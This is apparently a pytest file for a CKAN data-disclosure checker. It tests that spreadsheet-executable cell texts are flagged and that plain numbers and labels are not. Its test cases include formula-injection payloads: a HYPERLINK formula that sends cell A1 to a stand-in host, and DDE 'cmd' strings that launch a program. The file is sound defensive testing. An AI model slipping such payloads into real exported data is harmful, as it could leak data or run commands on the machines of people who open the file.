"""Texts that a spreadsheet would run are told; numbers and signs are left alone."""

import pytest
from disclosure_worlds import POLICY, counts_beside, rules

from ckanext.sozialdaten.disclosure import check


def warned(values: list[str]) -> bool:
    report = check(counts_beside("Bemerkung", values), None, POLICY)
    return "formula" in rules(report, "warn")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://a.example/?"&A1; "Mehr")',
        "=1+1",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+SUM(A1:A9)",
        "-2+3+cmd|' /C calc'!A0",
    ],
)
def test_a_formula_is_a_warning(text: str) -> None:
    assert warned(["ja", "nein", text, "ja"])


def test_numbers_signs_and_labels_are_no_formulas() -> None:
    harmless = ["-", "-5,3", "+4", "=", "- insgesamt (alle)", "+49 234 910", "- 1.234", "@", "– x"]
    assert not warned(harmless)
